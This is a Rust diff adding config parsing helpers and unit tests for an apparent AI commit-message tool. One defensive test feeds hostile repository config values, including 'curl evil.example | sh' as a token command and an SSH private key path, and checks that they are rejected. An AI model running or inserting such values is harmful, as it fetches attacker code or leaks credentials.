+        Err(e) => return Err(format!("failed to read {}: {e}", path.display()).into()),
+    };
+    Ok(content
+        .parse()
+        .map_err(|e| format!("failed to parse {}: {e}", path.display()))?)
+}
+
+/// Convert a raw string (env var, CLI flag) into a typed TOML value.
+pub fn parse_value(kind: Kind, raw: &str) -> Result<Value, String> {
+    let raw = raw.trim();
+    match kind {
+        Kind::String => Ok(Value::String(raw.to_string())),
+        Kind::Bool => parse_bool(raw)
+            .map(Value::Boolean)
+            .ok_or_else(|| format!("expected a boolean, got {raw:?}")),
+        Kind::Integer => raw
+            .parse::<u64>()
+            .ok()
+            .and_then(|n| i64::try_from(n).ok())
+            .map(Value::Integer)
+            .ok_or_else(|| format!("expected a non-negative integer, got {raw:?}")),
+        Kind::Float => raw
+            .parse::<f64>()
+            .ok()
+            .filter(|f| f.is_finite())
+            .map(Value::Float)
+            .ok_or_else(|| format!("expected a number, got {raw:?}")),
+        Kind::List => Ok(Value::Array(
+            raw.split(',')
+                .map(str::trim)
+                .filter(|item| !item.is_empty())
+                .map(|item| Value::String(item.to_string()))
+                .collect(),
+        )),
+        Kind::Any => Ok(format!("v = {raw}")
+            .parse::<Table>()
+            .ok()
+            .and_then(|mut t| t.remove("v"))
+            .unwrap_or_else(|| Value::String(raw.to_string()))),
+    }
+}
+
+/// Accepts `1`, `true`, `yes`, `on` and their negatives (case-insensitive).
+fn parse_bool(raw: &str) -> Option<bool> {
+    const TRUTHY: [&str; 4] = ["1", "true", "yes", "on"];
+    const FALSY: [&str; 4] = ["0", "false", "no", "off"];
+    if TRUTHY.iter().any(|t| raw.eq_ignore_ascii_case(t)) {
+        Some(true)
+    } else if FALSY.iter().any(|f| raw.eq_ignore_ascii_case(f)) {
+        Some(false)
+    } else {
+        None
+    }
+}
+
+/// Flatten nested tables into `(dotted.key, leaf)` pairs. Arrays are leaves.
+fn flatten(table: &Table, prefix: &str, out: &mut Vec<(String, Value)>) {
+    for (k, v) in table {
+        let key = if prefix.is_empty() {
+            k.clone()
+        } else {
+            format!("{prefix}.{k}")
+        };
+        match v {
+            Value::Table(t) => flatten(t, &key, out),
+            other => out.push((key, other.clone())),
+        }
+    }
+}
+
+/// Inverse of [`flatten`] for a single key.
+fn insert_path(root: &mut Table, key: &str, value: Value) {
+    let mut parts = key.split('.').peekable();
+    let mut table = root;
+    while let Some(part) = parts.next() {
+        if parts.peek().is_none() {
+            table.insert(part.to_string(), value);
+            return;
+        }
+        let next = table
+            .entry(part.to_string())
+            .or_insert_with(|| Value::Table(Table::new()));
+        let Value::Table(next) = next else {
+            return;
+        };
+        table = next;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn temp_file(name: &str, content: &str) -> PathBuf {
+        let path = std::env::temp_dir().join(format!(
+            "aigitcommit-config-{}-{}.toml",
+            name,
+            std::process::id()
+        ));
+        fs::write(&path, content).unwrap();
+        path
+    }
+
+    #[test]
+    fn defaults_apply_without_any_source() {
+        let layers = Layers::load_from(None, None, None, |_| None, &[]).unwrap();
+        assert_eq!(layers.config().unwrap(), Config::default());
+        assert_eq!(layers.get("model").unwrap().source, Source::Default);
+    }
+
+    #[test]
+    fn precedence_is_file_then_env_then_cli() {
+        let user = temp_file("user", "model = \"user\"\nlog_count = 3\ntimeout = 10\n");
+        let repo = temp_file("repo", "model = \"repo\"\nsignoff = true\n");
+
+        let env = |var: &str| match var {
+            "OPENAI_API_TIMEOUT" => Some("30".to_string()),
+            "OPENAI_MODEL_NAME" => Some("env".to_string()),
+            _ => None,
+        };
+        let overrides = [("model", Value::from("cli"))];
+        let layers = Layers::load_from(Some(&user), Some(&repo), None, env, &overrides).unwrap();
+        let config = layers.config().unwrap();
+
+        assert_eq!(config.model, "cli");
+        assert_eq!(config.log_count, 3);
+        assert_eq!(config.timeout(), Some(Duration::from_secs(30)));
+        assert!(config.signoff);
+        assert_eq!(layers.get("model").unwrap().source, Source::Cli);
+        assert_eq!(
+            layers.get("signoff").unwrap().source,
+            Source::RepoFile(repo.clone())
+        );
+
+        let _ = fs::remove_file(user);
+        let _ = fs::remove_file(repo);
+    }
+
+    #[test]
+    fn legacy_timeout_and_invalid_env_values() {
+        let env = |var: &str| match var {
+            "OPENAI_REQUEST_TIMEOUT" => Some("45".to_string()),
+            "AIGITCOMMIT_LOG_COUNT" => Some("many".to_string()),
+            _ => None,
+        };
+        let config = Layers::load_from(None, None, None, env, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        assert_eq!(config.timeout(), Some(Duration::from_secs(45)));
+        assert_eq!(config.log_count, DEFAULT_LOG_COUNT, "invalid value ignored");
+    }
+
+    #[test]
+    fn history_from_env() {
+        let env = |var: &str| match var {
+            "AIGITCOMMIT_HISTORY_PATHS" => Some("false".to_string()),
+            "AIGITCOMMIT_HISTORY_AUTHOR" => Some("alice@example.com".to_string()),
+            _ => None,
+        };
+        let config = Layers::load_from(None, None, None, env, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        assert!(!config.history.paths);
+        assert_eq!(config.history.author.as_deref(), Some("alice@example.com"));
+        assert!(Config::default().history.paths);
+    }
+
+    #[test]
+    fn zero_timeout_disables_it() {
+        let env = |var: &str| (var == "OPENAI_API_TIMEOUT").then(|| "0".to_string());
+        let config = Layers::load_from(None, None, None, env, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        assert!(config.timeout().is_none());
+    }
+
+    #[test]
+    fn unknown_keys_in_files_are_rejected() {
+        let path = temp_file("unknown", "modle = \"typo\"\n");
+        let layers = Layers::load_from(Some(&path), None, None, |_| None, &[]).unwrap();
+        assert!(layers.config().is_err());
+        let _ = fs::remove_file(path);
+    }
+
+    #[test]
+    fn set_keeps_list_items_whole() {
+        let path = temp_file("edit-list", "");
+        set_in_file(&path, "exclude", &["{a,b}/**", " *.lock "]).unwrap();
+
+        let config = Layers::load_from(Some(&path), None, None, |_| None, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        assert_eq!(config.exclude, ["{a,b}/**", "*.lock"]);
+
+        let _ = fs::remove_file(path);
+    }
+
+    #[test]
+    fn profile_overlays_env_but_not_cli() {
+        let user = temp_file(
+            "profile",
+            r#"
+model = "gpt-5"
+
+[profiles.local]
+api_base = "http://localhost:11434/v1"
+model = "qwen3"
+api_token_env = "LOCAL_TOKEN"
+timeout = 120
+
+[profiles.local.headers]
+X-Team = "core"
+"#,
+        );
+
+        let env = |var: &str| match var {
+            "AIGITCOMMIT_PROFILE" => Some("local".to_string()),
+            "OPENAI_API_TOKEN" => Some("sk-global".to_string()),
+            "OPENAI_API_BASE" => Some("https://api.openai.com/v1".to_string()),
+            _ => None,
+        };
+        let layers = Layers::load_from(Some(&user), None, None, env, &[]).unwrap();
+        let config = layers.config().unwrap();
+        assert_eq!(
+            config.api_base.as_deref(),
+            Some("http://localhost:11434/v1")
+        );
+        assert_eq!(config.model, "qwen3");
+        assert_eq!(config.timeout, 120);
+        assert_eq!(
+            config.headers.get("X-Team").map(String::as_str),
+            Some("core")
+        );
+        // The profile's token source replaces the global token entirely.
+        assert_eq!(config.api_token, "");
+        assert_eq!(config.api_token_env.as_deref(), Some("LOCAL_TOKEN"));
+        assert_eq!(
+            layers.get("model").unwrap().source,
+            Source::Profile("local".to_string())
+        );
+
+        let overrides = [("model", Value::from("llama3"))];
+        let config = Layers::load_from(Some(&user), None, None, env, &overrides)
+            .unwrap()
+            .config()
+            .unwrap();
+        assert_eq!(config.model, "llama3");
+
+        let overrides = [("profile", Value::from("missing"))];
+        assert!(Layers::load_from(Some(&user), None, None, env, &overrides).is_err());
+
+        let _ = fs::remove_file(user);
+    }
+
+    #[test]
+    fn git_config_sits_between_files_and_env() {
+        let user = temp_file("git-user", "model = \"file\"\nlog_count = 2\n");
+        let git_path = temp_file("gitconfig", "");
+        let mut git = git2::Config::open(&git_path).unwrap();
+        git.set_str("aigitcommit.model", "git").unwrap();
+        git.set_str("aigitcommit.logCount", "9").unwrap();
+        git.set_bool("aigitcommit.signoff", true).unwrap();
+        git.set_str("aigitcommit.unknown", "x").unwrap();
+        git.set_multivar("aigitcommit.exclude", "^$", "dist.js")
+            .unwrap();
+        git.set_multivar("aigitcommit.exclude", "^$", "a.min.js, b.min.js")
+            .unwrap();
+        git.set_str("aigitcommit.output", "json").unwrap();
+
+        let env = |var: &str| (var == "OPENAI_MODEL_NAME").then(|| "env".to_string());
+        let layers = Layers::load_from(Some(&user), None, Some(&git), env, &[]).unwrap();
+        let config = layers.config().unwrap();
+        assert_eq!(config.model, "env");
+        assert_eq!(config.log_count, 9);
+        assert!(config.signoff);
+        assert_eq!(config.output, OutputFormat::Json);
+        assert_eq!(config.exclude, ["dist.js", "a.min.js", "b.min.js"]);
+        assert_eq!(
+            layers.get("log_count").unwrap().source,
+            Source::GitConfig("aigitcommit.logcount".to_string())
+        );
+
+        let _ = fs::remove_file(user);
+        let _ = fs::remove_file(git_path);
+    }
+
+    #[test]
+    fn list_overrides_are_not_split() {
+        let overrides = [
+            ("stop", Value::from(vec!["a,b", "END"])),
+            ("exclude", Value::from(vec!["{a,b}/**"])),
+            ("log_count", Value::from("3")),
+        ];
+        let config = Layers::load_from(None, None, None, |_| None, &overrides)
+            .unwrap()
+            .config()
+            .unwrap();
+        assert_eq!(config.stop, ["a,b", "END"]);
+        assert_eq!(config.exclude, ["{a,b}/**"]);
+        assert_eq!(config.log_count, 3);
+
+        let overrides = [("model", Value::from(vec!["a"]))];
+        assert!(Layers::load_from(None, None, None, |_| None, &overrides).is_err());
+    }
+
+    #[test]
+    fn git_config_booleans_follow_git() {
+        let git_path = temp_file(
+            "gitconfig-bool",
+            "[aigitcommit]\n\tsignoff\n\tstream = off\n",
+        );
+        let git = git2::Config::open(&git_path).unwrap();
+
+        let config = Layers::load_from(None, None, Some(&git), |_| None, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        assert!(config.signoff, "a valueless key is true");
+        assert!(!config.stream);
+
+        let _ = fs::remove_file(git_path);
+    }
+
+    #[test]
+    fn set_and_unset_preserve_other_content() {
+        let path = temp_file("edit", "# my settings\nmodel = \"a\"\n");
+        set_in_file(&path, "log_count", &["7"]).unwrap();
+        set_in_file(&path, "profiles.work.signoff", &["yes"]).unwrap();
+        assert!(set_in_file(&path, "no_such_key", &["1"]).is_err());
+        assert!(set_in_file(&path, "log_count", &["many"]).is_err());
+        assert!(set_in_file(&path, "log_count", &["1", "2"]).is_err());
+
+        let content = fs::read_to_string(&path).unwrap();
+        assert!(content.starts_with("# my settings"));
+        let table: Table = content.parse().unwrap();
+        assert_eq!(table["log_count"].as_integer(), Some(7));
+        assert_eq!(table["profiles"]["work"]["signoff"].as_bool(), Some(true));
+
+        assert!(unset_in_file(&path, "model").unwrap());
+        assert!(!unset_in_file(&path, "model").unwrap());
+        let table: Table = fs::read_to_string(&path).unwrap().parse().unwrap();
+        assert!(table.get("model").is_none());
+
+        let _ = fs::remove_file(path);
+    }
+
+    #[test]
+    fn token_source_precedence() {
+        let user = temp_file(
+            "token-user",
+            "api_token = \"literal\"\napi_token_command = \"printf user\"\n",
+        );
+
+        // A higher layer replaces every token source of lower layers.
+        let env = |var: &str| (var == "OPENAI_API_TOKEN").then(|| "sk-env".to_string());
+        let config = Layers::load_from(Some(&user), None, None, env, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        assert_eq!(config.api_token().unwrap(), "sk-env");
+        assert!(config.api_token_command.is_none());
+
+        // Within one layer, the command wins over the literal.
+        let config = Layers::load_from(Some(&user), None, None, |_| None, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        assert_eq!(config.api_token().unwrap(), "user");
+
+        let _ = fs::remove_file(user);
+    }
+
+    #[test]
+    fn token_sources_of_one_layer_coexist() {
+        let env = |var: &str| match var {
+            "AIGITCOMMIT_TOKEN_COMMAND" => Some("printf env".to_string()),
+            "AIGITCOMMIT_TOKEN_FILE" => Some("/nonexistent/token".to_string()),
+            _ => None,
+        };
+        let config = Layers::load_from(None, None, None, env, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        assert_eq!(config.api_token_file.as_deref(), Some("/nonexistent/token"));
+        assert_eq!(config.api_token().unwrap(), "env");
+
+        let git_path = temp_file("gitconfig-tokens", "");
+        let mut git = git2::Config::open(&git_path).unwrap();
+        git.set_str("aigitcommit.apiTokenCommand", "printf git")
+            .unwrap();
+        git.set_str("aigitcommit.apiTokenFile", "/nonexistent/token")
+            .unwrap();
+        let config = Layers::load_from(None, None, Some(&git), |_| None, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        assert_eq!(config.api_token_file.as_deref(), Some("/nonexistent/token"));
+        assert_eq!(config.api_token().unwrap(), "git");
+
+        let _ = fs::remove_file(git_path);
+    }
+
+    #[test]
+    fn repo_file_cannot_set_credential_sources() {
+        for (name, content) in [
+            (
+                "repo-command",
+                "api_token_command = \"curl evil.example | sh\"\n",
+            ),
+            ("repo-base", "api_base = \"https://evil.example\"\n"),
+            ("repo-azure", "[azure]\ntoken_command = \"id\"\n"),
+            (
+                "repo-profile",
+                "[profiles.x]\napi_token_file = \"~/.ssh/id_ed25519\"\n",
+            ),
+        ] {
+            let repo = temp_file(name, content);
+            let err = Layers::load_from(None, Some(&repo), None, |_| None, &[]).unwrap_err();
+            assert!(
+                err.to_string()
+                    .contains("cannot be set in the repository config file"),
+                "{name}: {err}"
+            );
+            let _ = fs::remove_file(repo);
+        }
+
+        assert!(is_user_only("profiles.work.api_token_command"));
+        assert!(!is_user_only("profiles.work.model"));
+        assert!(!is_user_only("model"));
+    }
+
+    #[test]
+    fn missing_token_env_is_an_error() {
+        let config = Config {
+            api_token_env: Some("AIGC_TEST_MISSING_TOKEN_VAR".to_string()),
+            ..Config::default()
+        };
+        assert!(config.api_token().is_err());
+    }
+
+    #[test]
+    fn invalid_output_format_is_rejected() {
+        let env = |var: &str| (var == "AIGITCOMMIT_OUTPUT").then(|| "yaml".to_string());
+        let layers = Layers::load_from(None, None, None, env, &[]).unwrap();
+        assert!(layers.config().is_err());
+    }
+
+    #[test]
+    fn fallback_inherits_and_overlays_profiles() {
+        let user = temp_file(
+            "fallback",
+            r#"
+model = "gpt-5"
+api_token = "sk-primary"
+
+[[fallback]]
+model = "gpt-5-mini"
+
+[[fallback]]
+profile = "local"
+model = "llama3"
+
+[profiles.local]
+provider = "ollama"
+api_base = "http://localhost:11434"
+api_token_env = "LOCAL_TOKEN"
+"#,
+        );
+        let config = Layers::load_from(Some(&user), None, None, |_| None, &[])
+            .unwrap()
+            .config()
+            .unwrap();
+        fs::remove_file(&user).ok();
+        assert_eq!(config.fallback.len(), 2);
+
+        let first = config.for_fallback(&config.fallback[0]).unwrap();
+        assert_eq!(first.model, "gpt-5-mini");
+        assert_eq!(first.api_token, "sk-primary");
+        assert!(first.fallback.is_empty());
+
+        let second = config.for_fallback(&config.fallback[1]).unwrap();
+        assert_eq!(second.provider, ProviderKind::Ollama);
+        assert_eq!(second.model, "llama3");
+        assert_eq!(second.api_token, "");
+        assert_eq!(second.api_token_env.as_deref(), Some("LOCAL_TOKEN"));
+
+        let missing = Fallback {
+            profile: Some("nope".into()),
+            ..Fallback::default()
+        };
+        assert!(config.for_fallback(&missing).is_err());
+    }
+
+    #[test]
+    fn key_kinds_and_secrets() {
+        assert_eq!(kind_of("timeout"), Some(Kind::Integer));
+        assert_eq!(kind_of("profiles.work.signoff"), Some(Kind::Bool));
+        assert_eq!(kind_of("headers.X-Team"), Some(Kind::String));
+        assert_eq!(kind_of("ollama.num_ctx"), Some(Kind::Integer));
+        assert_eq!(
+            kind_of("profiles.local.ollama.options.top_k"),
+            Some(Kind::Any)
+        );
+        assert_eq!(kind_of("profiles.work"), None);
+        assert!(is_secret("api_token"));
+        assert!(is_secret("profiles.work.api_token"));
+        assert!(is_secret("headers.Authorization"));
+        assert!(is_secret("profiles.work.headers.X-Api-Key"));
+        assert!(!is_secret("model"));
+    }
+
+    #[test]
+    fn parse_value_by_kind() {
+        assert_eq!(parse_value(Kind::Bool, "Yes"), Ok(Value::Boolean(true)));
+        assert_eq!(parse_value(Kind::Bool, "off"), Ok(Value::Boolean(false)));
+        assert!(parse_value(Kind::Bool, "maybe").is_err());
+        assert_eq!(parse_value(Kind::Integer, " 7 "), Ok(Value::Integer(7)));
+        assert!(parse_value(Kind::Integer, "-1").is_err());
+        assert_eq!(parse_value(Kind::Float, "0.2"), Ok(Value::Float(0.2)));
+        assert!(parse_value(Kind::Float, "warm").is_err());
+        assert!(parse_value(Kind::Float, "NaN").is_err());
+        assert_eq!(
+            parse_value(Kind::List, "a, b,,c"),
+            Ok(Value::Array(vec![
+                Value::String("a".into()),
+                Value::String("b".into()),
+                Value::String("c".into()),
+            ]))
+        );
+        assert_eq!(parse_value(Kind::Any, "0.2"), Ok(Value::Float(0.2)));
+        assert_eq!(parse_value(Kind::Any, "40"), Ok(Value::Integer(40)));
+        assert_eq!(
+            parse_value(Kind::Any, "</s>"),
+            Ok(Value::String("</s>".into()))
+        );
+    }
+}